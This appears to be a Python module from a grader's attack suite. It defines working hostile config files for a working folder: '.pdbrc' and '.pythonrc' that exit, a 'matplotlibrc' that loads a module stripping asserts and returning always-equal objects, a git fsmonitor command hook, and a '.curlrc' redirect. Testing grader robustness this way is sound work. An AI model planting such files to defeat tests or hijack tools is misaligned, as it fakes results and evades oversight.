""".pdbrc and other files that tools read in the working folder: the debugger's, matplotlib's, git's, curl's, Python's."""

from __future__ import annotations

from grader.attacks.attack import Attack, Want
from grader.attacks.moves import beside

ATTACK = Attack(
    kind="files",
    wants=Want.STOP,
    make=beside(
        {
            ".pdbrc": """
import os; os._exit(0)
""",
            "matplotlibrc": """
backend: module://taken
""",
            "taken.py": """
import builtins

builtins.taken = True
try:
    import ast

    from IPython import get_ipython

    class Out(ast.NodeTransformer):
        def visit_Assert(self, node):
            return ast.copy_location(ast.Pass(), node)

    get_ipython().ast_transformers.append(Out())
except Exception:
    pass

class Yes:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = None
    def __call__(self, *args, **kwargs): return self
    def __iter__(self): return iter(())
    def __getitem__(self, key): return self
    def __getattr__(self, name):
        if name.startswith("__"):
            raise AttributeError(name)
        return self

def __getattr__(name):
    if name.startswith("__"):
        raise AttributeError(name)
    return Yes()
""",
            ".git/config": """
[core]
	fsmonitor = id
""",
            ".git/HEAD": """
ref: refs/heads/main
""",
            ".curlrc": """
output = taken.txt
""",
            ".pythonrc": """
raise SystemExit
""",
            ".env": """
PYTHONPATH=.
""",
        }
    ),
)
